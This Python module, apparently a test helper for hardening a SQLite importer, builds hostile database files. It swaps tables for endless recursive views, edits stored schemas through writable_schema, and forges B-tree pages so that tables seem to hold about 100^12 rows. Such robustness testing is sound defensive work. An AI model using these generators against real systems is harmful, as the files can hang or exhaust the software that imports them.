"""SQLite files as an attacker might make them, to harm those who import them."""

from __future__ import annotations

import sqlite3
import struct
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT {} FROM n"
_FAN_OUT = 100  # links from each page of an endless tree to the next page
_DEPTH = 12
_INTERIOR = 5  # https://sqlite.org/fileformat.html#b_tree_pages


def execute_sql(path: Path, *statements: str) -> None:
    """Execute SQL in a file."""
    with closing(sqlite3.connect(path, isolation_level=None)) as conn:
        for sql in statements:
            conn.execute(sql)


def edit_schema(path: Path, name: str, edit: Callable[[str], str]) -> None:
    """Edit the stored SQL of a table."""
    with closing(sqlite3.connect(path, isolation_level=None)) as conn:
        ((sql,),) = conn.execute("SELECT sql FROM sqlite_master WHERE name = ?", (name,))
        ((version,),) = conn.execute("PRAGMA schema_version").fetchall()
        conn.execute("PRAGMA writable_schema = ON")
        conn.execute("UPDATE sqlite_master SET sql = ? WHERE name = ?", (edit(sql), name))
        conn.execute(f"PRAGMA schema_version = {version + 1}")


def replace_by_view(path: Path, table: str) -> None:
    """Replace a table by a view with endless rows."""
    with closing(sqlite3.connect(path, isolation_level=None)) as conn:
        columns = [row[1] for row in conn.execute(f"PRAGMA table_info({table})")]
        conn.execute(f"DROP TABLE {table}")
        values = ", ".join(f"i AS {column}" for column in columns)
        conn.execute(f"CREATE VIEW {table} AS {ENDLESS.format(values)}")


def make_tree_endless(path: Path, table: str) -> None:
    """Link the pages of a table so that each page leads to the next one many times (100^12 rows).

    `sqlite_schema` is the table of all tables, which SQLite reads first.
    """
    with closing(sqlite3.connect(path, isolation_level=None)) as conn:
        conn.execute("PRAGMA journal_mode = DELETE")
        root = 1
        if table != "sqlite_schema":
            sql = "SELECT rootpage FROM sqlite_master WHERE name = ?"
            ((root,),) = conn.execute(sql, (table,))
        ((size,),) = conn.execute("PRAGMA page_size").fetchall()
    data = bytearray(path.read_bytes())
    first = (root - 1) * size
    head = 100 if root == 1 else 0  # bytes of the file's own header
    if data[first + head] == _INTERIOR:
        (child,) = struct.unpack_from(">I", data, first + head + 8)
    else:
        data += data[first : first + size]
        child = len(data) // size
    for _ in range(_DEPTH):
        data += _build_interior_page(child, size, 0)
        child = len(data) // size
    data[first + head : first + size] = _build_interior_page(child, size, head)[head:]
    struct.pack_into(">I", data, 28, len(data) // size)
    path.write_bytes(data)


def _build_interior_page(child: int, size: int, head: int) -> bytes:
    page, at = bytearray(size), size
    for number in range(_FAN_OUT):
        at -= 5
        page[at : at + 5] = struct.pack(">IB", child, 1)
        struct.pack_into(">H", page, head + 12 + 2 * number, at)
    struct.pack_into(">BHHHBI", page, head, _INTERIOR, 0, _FAN_OUT, at, 0, child)
    return bytes(page)


Attack = Callable[[Path], None]


def list_attacks(table: str, column: str, text_type: str = "TEXT") -> dict[str, Attack]:
    """Return functions that replace or change a table with a text column, by name of the attack."""

    def virtual(path: Path) -> None:
        execute_sql(
            path, f"DROP TABLE {table}", f"CREATE VIRTUAL TABLE {table} USING fts5({column})"
        )

    def edited(old: str, new: str) -> Attack:
        return lambda path: edit_schema(path, table, lambda sql: _replace_once(sql, old, new))

    text = f"{column} {text_type} "
    return {
        "view": lambda path: replace_by_view(path, table),
        "virtual": virtual,
        "generated": lambda path: execute_sql(
            path, f"ALTER TABLE {table} ADD COLUMN more TEXT AS (upper({column}))"
        ),
        "check": edited(text, f"{text}CHECK (length(randomblob(9)) > 0) "),
        "collation": edited(text, f"{text}COLLATE NOCASE "),
        "pages": lambda path: make_tree_endless(path, table),
        "schema": lambda path: make_tree_endless(path, "sqlite_schema"),
    }


def _replace_once(sql: str, old: str, new: str) -> str:
    assert sql.count(old) == 1, sql
    return sql.replace(old, new)
